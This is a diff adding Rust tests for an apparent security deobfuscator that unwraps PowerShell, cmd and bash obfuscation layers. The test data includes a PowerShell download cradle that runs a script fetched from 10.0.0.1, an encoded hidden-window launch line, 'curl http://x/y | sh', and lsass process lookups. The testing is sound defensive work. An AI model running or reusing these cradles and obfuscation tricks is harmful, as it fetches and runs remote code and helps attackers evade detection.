@@ -1,0 +1,188 @@
+//! The layer driver on every technique, alone and nested; limits and failures.
+
+use super::*;
+use crate::Shell;
+use std::io::Write;
+
+fn utf16_b64(s: &str) -> String {
+    let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    codec::to_base64(&bytes)
+}
+
+fn last(text: &str, shell: Shell) -> String {
+    deobfuscate(text, shell).last().to_string()
+}
+
+const CMD: &str = "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')";
+
+#[test]
+fn encoded_command_under_every_spelling() {
+    let b64 = utf16_b64(CMD);
+    for flag in [
+        "-e",
+        "-en",
+        "-enc",
+        "-ENC",
+        "-eNcOdEdCoMmAnD",
+        "-ec",
+        "/enc",
+        "-EncodedCommand",
+        "–enc",
+    ] {
+        let text = format!("powershell.exe -nop -w hidden {flag} {b64}");
+        assert_eq!(last(&text, Shell::Cmd), CMD, "{flag}");
+    }
+    // Inside a cmd line, the rest of the line stays.
+    let text = format!("cmd /c \"powershell -enc {b64}\" & echo done");
+    assert_eq!(
+        last(&text, Shell::Cmd),
+        format!("cmd /c \"{CMD}\" & echo done")
+    );
+}
+
+#[test]
+fn base64_and_compressed_loaders() {
+    let utf8 = codec::to_base64(CMD.as_bytes());
+    let text =
+        format!("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{utf8}')))");
+    assert_eq!(last(&text, Shell::Powershell), CMD);
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(CMD.as_bytes()).unwrap();
+    let g = codec::to_base64(&gz.finish().unwrap());
+    let text = format!(
+        "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{g}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
+    );
+    assert_eq!(last(&text, Shell::Powershell), CMD);
+    let mut df = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
+    df.write_all(CMD.as_bytes()).unwrap();
+    let d = codec::to_base64(&df.finish().unwrap());
+    let text = format!(
+        "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{d}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()"
+    );
+    assert_eq!(last(&text, Shell::Powershell), CMD);
+}
+
+#[test]
+fn string_expressions_and_invocations() {
+    let cases = [
+        "iex ('Get-Pro'+'cess -Name lsass')",
+        "Invoke-Expression (\"{1}{0}{2}\" -f 'cess','Get-Pro',' -Name lsass')",
+        "iex ('Get-XYZProcess -Name lsass' -replace 'XYZ','')",
+        "&([scriptblock]::Create('Get-Pro'+'cess -Name lsass'))",
+        "('Get-Process -Name lsass') | iex",
+        "$c = 'Get-Pro' + 'cess -Name lsass'\niex $c",
+    ];
+    for c in cases {
+        let out = last(c, Shell::Powershell);
+        assert!(out.ends_with("Get-Process -Name lsass"), "{c} → {out}");
+    }
+    let codes: Vec<String> = "Get-Process"
+        .chars()
+        .map(|c| (c as u32).to_string())
+        .collect();
+    let text = format!("iex (-join [char[]]({}))", codes.join(","));
+    assert_eq!(last(&text, Shell::Powershell), "Get-Process");
+    assert_eq!(
+        last("I`nv`oke-`Expr`ession 'whoami'", Shell::Powershell),
+        "whoami"
+    );
+}
+
+#[test]
+fn cmd_and_sh_techniques() {
+    assert_eq!(
+        last("p^o^w^e^r^s^h^e^l^l -c whoami", Shell::Cmd),
+        "powershell -c whoami"
+    );
+    assert_eq!(
+        last("set a=who&& set b=ami&& call %a%%b%", Shell::Cmd),
+        "whoami"
+    );
+    assert_eq!(
+        last(
+            "echo Y3VybCBodHRwOi8veC95IHwgc2g= | base64 -d | bash",
+            Shell::Bash
+        ),
+        "curl http://x/y | sh"
+    );
+    assert_eq!(last(r"bash -c $'\x69\x64'", Shell::Bash), "id");
+    assert_eq!(last("eval \"$(echo aWQ= | base64 -d)\"", Shell::Bash), "id");
+    assert_eq!(last("echo 'di' | rev | sh", Shell::Sh), "id");
+}
+
+#[test]
+fn nested_layers_are_each_shown() {
+    let inner = "iex ('who'+'ami')";
+    let text = format!("powershell -enc {}", utf16_b64(inner));
+    let d = deobfuscate(&text, Shell::Cmd);
+    let names: Vec<&str> = d.layers.iter().map(|l| l.decoder).collect();
+    assert_eq!(
+        names,
+        [
+            "original",
+            "powershell-encoded-command",
+            "powershell-invoke"
+        ]
+    );
+    assert_eq!(d.last(), "whoami");
+}
+
+#[test]
+fn nesting_deeper_than_the_limit_stops_with_a_note() {
+    let mut text = "whoami".to_string();
+    for _ in 0..50 {
+        text = format!(
+            "echo {} | base64 -d | sh",
+            codec::to_base64(text.as_bytes())
+        );
+        if text.len() > 200_000 {
+            break;
+        }
+    }
+    let d = deobfuscate(&text, Shell::Sh);
+    assert_eq!(d.layers.len(), MAX_LAYERS + 1);
+    assert!(
+        d.notes.iter().any(|n| n.contains("stopped after")),
+        "{:?}",
+        d.notes
+    );
+}
+
+#[test]
+fn undecodable_payloads_are_left_and_explained() {
+    let d = deobfuscate("powershell -enc AAAAAAAAAAAAAAAA!!!!", Shell::Cmd);
+    assert_eq!(d.layers.len(), 1);
+    let mz = codec::to_base64(
+        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00",
+    );
+    let d = deobfuscate(
+        &format!("$b=[Convert]::FromBase64String('{mz}')"),
+        Shell::Powershell,
+    );
+    assert_eq!(d.layers.len(), 1);
+    assert!(
+        d.notes.iter().any(|n| n.contains("Windows executable")),
+        "{:?}",
+        d.notes
+    );
+}
+
+#[test]
+fn garbage_never_panics() {
+    let samples = [
+        "\u{0}\u{1}\u{2}\u{ff}",
+        "iex (((((((",
+        "$'\\x",
+        "set =&& call %%",
+        "echo | base64 -d | sh",
+        "'{0}' -f",
+        "`",
+        "^",
+        "powershell -enc ====",
+    ];
+    for s in samples {
+        for shell in [Shell::Sh, Shell::Bash, Shell::Cmd, Shell::Powershell] {
+            let _ = deobfuscate(s, shell);
+        }
+    }
+}
